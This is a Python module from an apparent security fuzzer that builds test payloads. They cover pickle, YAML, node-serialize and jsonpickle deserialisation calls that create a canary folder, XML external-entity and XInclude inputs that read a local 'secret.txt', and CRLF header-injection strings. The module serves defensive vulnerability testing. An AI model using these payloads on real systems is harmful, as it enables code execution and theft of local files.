"""Documents that do more than say something: packed objects that call a function when they are unpacked, and XML
that names other documents. What is called makes one folder or file with the case's canary.
"""

from __future__ import annotations

import re
from functools import lru_cache

from mcpfuzz.strategies.payload import Payload

__all__ = ["breaks", "packed", "xml"]

MADE = "{watch}/{canary:1}"
PICKLE = f"cos\nmkdir\n(S'{MADE}'\ntR."
"""Protocol 0, so that it is text: os.mkdir(MADE)."""
WRITE = f"require('fs').writeFileSync('{MADE}','')"
PACKED: tuple[tuple[str, str], ...] = (
    (f"{{base64:{PICKLE}}}", "a pickle in base64"),
    (PICKLE, "a pickle"),
    (f"!!python/object/apply:os.mkdir ['{MADE}']", "a YAML tag that calls a function"),
    (f"a: !!python/object/apply:os.mkdir ['{MADE}']", "a YAML tag that calls a function, inside a mapping"),
    (f"- !!python/object/apply:os.mkdir ['{MADE}']", "a YAML tag that calls a function, inside a list"),
    (f'{{"a": "_$$ND_FUNC$$_function(){{{WRITE}}}()"}}', "a function in JSON that is run when it is read"),
    (f'{{"py/reduce": [{{"py/function": "os.mkdir"}}, {{"py/tuple": ["{MADE}"]}}]}}', "a call in JSON"),
    (f"{{base64:!!python/object/apply:os.mkdir ['{MADE}']}}", "a YAML tag that calls a function, in base64"),
    (f"!!python/object/new:os.mkdir ['{MADE}']", "a YAML tag that makes an object"),
    (f'"toString": !!js/function "function(){{{WRITE}}}"', "a YAML tag that holds a function"),
)


@lru_cache(maxsize=1)
def packed(base: str) -> tuple[Payload, ...]:
    """Packed objects, most likely first."""
    return tuple(Payload(text, words, (text,), "deserialisation") for text, words in PACKED)


FILE = "file://{outside}/secret.txt"
BAIT = "{bait}/{canary:1}"
_TEXT = re.compile(r">\s*[^<>\s][^<>]*<")
_ROOT = re.compile(r"<([A-Za-z][\w.-]*)[^<>]*?>")
DECLARED: tuple[tuple[str, str, str], ...] = (
    (f'<!ENTITY x SYSTEM "{FILE}">', FILE, "an entity that is a file"),
    (f'<!ENTITY x SYSTEM "{BAIT}">', BAIT, "an entity that is an address"),
    (f'<!ENTITY % x SYSTEM "{BAIT}"> %x;', BAIT, "a parameter entity that is an address"),
    (f'<!ENTITY x PUBLIC "x" "{FILE}">', FILE, "a public entity that is a file"),
)
INCLUDE = 'xmlns:i="http://www.w3.org/2001/XInclude"'


@lru_cache(maxsize=512)
def xml(base: str) -> tuple[Payload, ...]:
    """XML that names other documents, most likely first.

    Args:
        base: the good document; entities stand in its first text.
    """
    document = re.sub(r"^\s*<\?xml[^>]*\?>|<!DOCTYPE[^>\[]*>", "", base) if base.lstrip().startswith("<") else ""
    if not _TEXT.search(document):
        document = "<r>x</r>"
    used = _TEXT.sub(">&x;<", document, count=1)
    match = _ROOT.search(document)
    root = match[1] if match else "r"
    made = []
    for declared, keep, words in DECLARED:
        shown = document if "%" in declared else used
        made.append(Payload(f"<!DOCTYPE {root} [{declared}]>{shown}", words, (keep,), "xml-entity"))
    include = f'<i:include {INCLUDE} parse="text" href="{FILE}"/>'
    made.append(
        Payload(f'<!DOCTYPE {root} SYSTEM "{BAIT}">{document}', "a document type elsewhere", (BAIT,), "xml-entity")
    )
    made.append(Payload(_TEXT.sub(f">{include}<", document, count=1), "a file included", (FILE,), "xml-entity"))
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    made.append(
        Payload(
            f"<!DOCTYPE svg [{DECLARED[0][0]}]>{svg}", "a drawing with an entity that is a file", (FILE,), "xml-entity"
        )
    )
    made.append(
        Payload(f'<?xml version="1.0"?>{made[0].text}', "an entity that is a file, declared", (FILE,), "xml-entity")
    )
    return tuple({payload.text: payload for payload in made}.values())


BREAKS: tuple[tuple[str, str], ...] = (
    ("BASE\r\nX-{canary:1}: 1", "CR LF and a header"),
    ("BASE\nX-{canary:1}: 1", "LF and a header"),
    ("BASE\r\nX-{canary:1}: 1\r\nX-Rest: ", "CR LF, a header and the beginning of another"),
    ("BASE%0d%0aX-{canary:1}: 1", "CR LF, percent-encoded"),
    ("BASE HTTP/1.1\r\nX-{canary:1}: 1\r\nX-Rest: ", "the end of a request line and a header"),
    ("BASE\rX-{canary:1}: 1", "CR and a header"),
    ("BASE\u560d\u560aX-{canary:1}: 1", "letters whose low bytes are CR and LF"),
)


@lru_cache(maxsize=4096)
def breaks(base: str) -> tuple[Payload, ...]:
    """Values that end a header and begin another, most likely first."""
    return tuple(
        Payload(text.replace("BASE", base or "a"), words, ("X-{canary:1}: 1",), "header-injection")
        for text, words in BREAKS
    )
